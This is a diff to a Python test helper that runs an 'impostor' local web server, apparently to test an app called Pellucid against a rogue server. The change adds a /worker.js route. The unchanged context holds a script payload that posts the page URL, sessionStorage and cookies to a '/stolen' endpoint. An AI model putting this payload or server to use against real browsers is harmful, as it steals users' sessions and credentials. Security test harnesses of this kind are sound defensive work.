@@ -20,7 +20,7 @@ SECRET = re.compile(r"[A-Za-z0-9_.-]{16,}")
 # Run by another user's Python, who can read nothing here: standard library alone, given as an argument.
 PROGRAM = r"""
 import asyncio, base64, hashlib, re, sys
-port, target, page = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
+port, target, page, worker = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
 PAGE = ("<!doctype html><title>Pellucid</title><script>" + page + "</script>").encode()
 STEAL = b"fetch('/stolen',{method:'POST',body:JSON.stringify([location.href,{...sessionStorage},document.cookie])})"
 
@@ -62,8 +62,10 @@ async def serve(reader, writer):
         elif key:
             await frames(reader, writer, key[1])
         else:
-            answer = PAGE.replace(b"STEAL", STEAL)
-            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: "
+            is_worker = head.startswith(b"GET /worker.js")
+            answer = worker.encode() if is_worker else PAGE.replace(b"STEAL", STEAL)
+            kind = b"text/javascript" if is_worker else b"text/html"
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: " + kind + b"\r\nConnection: close\r\nContent-Length: "
                          + str(len(answer)).encode() + b"\r\n\r\n" + answer)
         await writer.drain()
     except (OSError, asyncio.IncompleteReadError):
@@ -96,11 +98,11 @@ class Impostor:
 
 
 @contextmanager
-def impostor(folder: Path, port: int = 0, target: int = 0, page: str = "STEAL") -> Iterator[Impostor]:
+def impostor(folder: Path, port: int = 0, target: int = 0, page: str = "STEAL", worker: str = "") -> Iterator[Impostor]:
     """At a port, until the end. target: hands everything on to that port. page: the script of its
-    page."""
+    page. worker: that of /worker.js."""
     log = folder / f"impostor-{port}-{target}.txt"
-    command = ["/usr/bin/python3", "-c", PROGRAM, str(port), str(target), page]
+    command = ["/usr/bin/python3", "-c", PROGRAM, str(port), str(target), page, worker]
     with log.open("w") as stream:
         process = subprocess.Popen(command, stdout=stream, stderr=sys.stderr, user=NOBODY, group=NOBODY, cwd="/")
     try:
